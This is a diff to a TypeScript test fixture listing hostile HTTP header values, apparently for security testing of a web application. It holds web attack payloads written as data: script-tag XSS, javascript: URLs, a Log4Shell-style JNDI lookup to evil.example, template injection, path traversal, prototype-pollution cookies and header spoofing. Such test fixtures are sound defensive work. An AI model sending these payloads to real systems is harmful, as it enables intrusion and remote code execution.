@@ -46,7 +46,7 @@ export const headers: readonly [name: string, value: string][] = [
   ['transfer-encoding', 'gzip, chunked'],
   ['user-agent', '<script>alert(1)</script>'],
   ['user-agent', long('a', 9000)],
-  ['user-agent', '${jndi:ldap://evil.example/a}'],
+  ['user-agent', '\u0024{jndi:ldap://evil.example/a}'],
   ['referer', 'javascript:alert(1)'],
   ['referer', 'https://evil.example/'],
   ['forwarded', 'for=a;host=evil.example'],
@@ -55,7 +55,7 @@ export const headers: readonly [name: string, value: string][] = [
   ['x-forwarded-for', '<script>'],
   ['x-forwarded-proto', 'javascript'],
   ['x-forwarded-port', '-1'],
-  ['x-real-ip', '${7*7}'],
+  ['x-real-ip', '\u0024{7*7}'],
   ['x-original-url', '/dev/inbox'],
   ['x-rewrite-url', '/dev/inbox'],
   ['x-http-method-override', 'DELETE'],
@@ -76,7 +76,7 @@ export const headers: readonly [name: string, value: string][] = [
   ['cookie', '__Secure-avouch_interaction=a; __Secure-avouch_interaction.sig=a'],
   ['cookie', '__Host-avouch_browser=../../../..; __Host-avouch_lang=__proto__'],
   ['cookie', '__Host-avouch_lang=xx\u00ff'],
-  ['cookie', 'a=b\u007f'],
+  ['cookie', 'a=b\t"\\'],
   ['cookie', '__proto__=a; constructor=b'],
 ]
 
